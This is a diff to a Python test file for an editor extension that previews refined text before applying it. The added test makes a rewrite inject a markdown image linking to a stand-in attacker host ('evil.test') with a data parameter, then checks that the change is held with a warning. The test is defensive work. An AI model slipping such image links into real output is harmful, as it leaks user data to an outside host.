@@ -9,6 +9,7 @@ import pytest
 from self_refine.editor import extensions
 from support.editing import RULE, editing
 from support.lsp_client import NEVER
+from support.rule import Rule
 
 _ROOT = Path(__file__).parent.parent.parent
 _OURS = {"extensions": True, "lmBridge": False, "trusted": True}
@@ -87,6 +88,19 @@ def test_a_held_result_is_shown_before_it_lands(tmp_path):
         preview = at.client.request("selfRefine/preview", {"runId": run})
         assert preview == {"after": "First.\n\nWe use it.\n"}
         assert at.text == "First.\n\nWe utilise it.\n"
+        # The client has opened the difference: no sentence says where it is.
+        assert not [words for words in at.client.shown() if "waits" in words]
+
+
+def test_what_has_to_be_looked_at_is_said_beside_the_difference(tmp_path):
+    """A rewrite that brings an address says so, and nothing of actions that show what is shown."""
+    rule = Rule({"utilise": "use ![it](https://evil.test/?d=1)"}, criterion="house/plain")
+    with editing(tmp_path, rule=rule, options=_OURS) as at:
+        at.open("memo.md", "We utilise it.")
+        at.run()
+        said = at.wait_shown("The refined text waits", "look at it first")
+        assert _last(at)["held"] is True
+    assert "code actions" not in said
 
 
 def test_offers_name_the_teams_file_first(tmp_path):
